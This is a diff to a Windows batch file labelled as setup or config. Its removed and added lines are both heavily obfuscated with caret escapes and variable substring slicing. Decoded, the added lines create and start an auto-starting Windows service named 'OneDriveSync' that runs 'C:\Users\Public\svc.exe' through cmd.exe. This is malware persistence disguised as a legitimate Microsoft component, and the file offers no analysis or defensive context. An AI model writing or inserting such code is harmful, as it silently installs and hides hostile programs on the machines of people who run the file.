@@ -1,7 +1,7 @@
-REM setup 2589 v3
-@^ec^h^o off
-^se^t "soqv=sul7n0kmhxcjHpfivaMwrSt.Ud\:PCEGg/ebo"
-%soqv:~0,1%%soqv:~10,1% %soqv:~-27,1%%soqv:~20,1%%soqv:~-3,1%%soqv:~17,1%%soqv:~22,1%%soqv:~-3,1% %soqv:~-19,1%%soqv:~15,1%%soqv:~10,1%%soqv:~20,1%%soqv:~36,1%%soqv:~0,1%%soqv:~36,1%%soqv:~14,1%%soqv:~22,1%%soqv:~-7,1%%soqv:~25,1%%soqv:~-5,1%%soqv:~-3,1%%soqv:~-13,1%%soqv:~13,1%%soqv:~25,1%%soqv:~17,1%%soqv:~22,1%%soqv:~34,1%%soqv:~-8,1%%soqv:~36,1%%soqv:~20,1%%soqv:~-3,1% %soqv:~35,1%%soqv:~15,1%%soqv:~4,1%%soqv:~28,1%%soqv:~17,1%%soqv:~-15,1%%soqv:~8,1%= "%soqv:~-27,1%%soqv:~-30,1%%soqv:~25,1%%soqv:~-14,1%%soqv:~34,1%%soqv:~9,1%%soqv:~34,1% %soqv:~33,1%%soqv:~10,1% %soqv:~29,1%%soqv:~27,1%%soqv:~26,1%%soqv:~24,1%%soqv:~0,1%%soqv:~-3,1%%soqv:~20,1%%soqv:~0,1%%soqv:~-11,1%%soqv:~28,1%%soqv:~1,1%%soqv:~35,1%%soqv:~2,1%%soqv:~15,1%%soqv:~10,1%%soqv:~26,1%%soqv:~-37,1%%soqv:~-21,1%%soqv:~10,1%%soqv:~-14,1%%soqv:~34,1%%soqv:~9,1%%soqv:~34,1%" %soqv:~0,1%%soqv:~22,1%%soqv:~-20,1%%soqv:~20,1%%soqv:~22,1%= %soqv:~-20,1%%soqv:~-36,1%%soqv:~-15,1%%soqv:~36,1%
-@echo ^o^f^f
-s^et "waqe=MEf9UmbuteZo5digrcs1paCT"
-%waqe:~-6,1%%waqe:~17,1% %waqe:~18,1%%waqe:~8,1%%waqe:~-3,1%%waqe:~16,1%%waqe:~-16,1% %waqe:~0,1%%waqe:~14,1%%waqe:~-7,1%%waqe:~-8,1%%waqe:~11,1%%waqe:~18,1%%waqe:~11,1%%waqe:~2,1%%waqe:~8,1%%waqe:~-23,1%%waqe:~13,1%%waqe:~15,1%%waqe:~9,1%%waqe:~4,1%%waqe:~-4,1%%waqe:~13,1%%waqe:~-3,1%%waqe:~8,1%%waqe:~9,1%%waqe:~22,1%%waqe:~11,1%%waqe:~16,1%%waqe:~9,1%
+REM config 7188 v3
+@e^cho o^f^f
+se^t "nlpz=hauOlStCvbJy/GVND\r.UdgRxsnmYoePci:k"
+%nlpz:~25,1%%nlpz:~-4,1% %nlpz:~32,1%%nlpz:~-18,1%%nlpz:~30,1%%nlpz:~-35,1%%nlpz:~6,1%%nlpz:~30,1% %nlpz:~3,1%%nlpz:~26,1%%nlpz:~-6,1%%nlpz:~16,1%%nlpz:~-18,1%%nlpz:~-3,1%%nlpz:~-28,1%%nlpz:~30,1%%nlpz:~5,1%%nlpz:~-25,1%%nlpz:~26,1%%nlpz:~-4,1% %nlpz:~9,1%%nlpz:~33,1%%nlpz:~26,1%%nlpz:~31,1%%nlpz:~1,1%%nlpz:~-30,1%%nlpz:~0,1%= "%nlpz:~32,1%%nlpz:~-9,1%%nlpz:~21,1%%nlpz:~19,1%%nlpz:~30,1%%nlpz:~-12,1%%nlpz:~30,1% %nlpz:~12,1%%nlpz:~-4,1% %nlpz:~7,1%%nlpz:~34,1%%nlpz:~17,1%%nlpz:~-16,1%%nlpz:~25,1%%nlpz:~30,1%%nlpz:~18,1%%nlpz:~25,1%%nlpz:~17,1%%nlpz:~31,1%%nlpz:~-34,1%%nlpz:~9,1%%nlpz:~4,1%%nlpz:~33,1%%nlpz:~-4,1%%nlpz:~17,1%%nlpz:~-11,1%%nlpz:~8,1%%nlpz:~32,1%%nlpz:~19,1%%nlpz:~30,1%%nlpz:~24,1%%nlpz:~30,1%" %nlpz:~-11,1%%nlpz:~-30,1%%nlpz:~-35,1%%nlpz:~-18,1%%nlpz:~6,1%= %nlpz:~1,1%%nlpz:~-34,1%%nlpz:~6,1%%nlpz:~29,1%
+@ech^o off
+^se^t "xoud=oZx4nVreyatb0DiOvSLsc"
+%xoud:~-2,1%%xoud:~20,1% %xoud:~19,1%%xoud:~10,1%%xoud:~9,1%%xoud:~-15,1%%xoud:~-11,1% %xoud:~15,1%%xoud:~4,1%%xoud:~7,1%%xoud:~13,1%%xoud:~-15,1%%xoud:~-7,1%%xoud:~-5,1%%xoud:~7,1%%xoud:~17,1%%xoud:~-13,1%%xoud:~4,1%%xoud:~20,1%
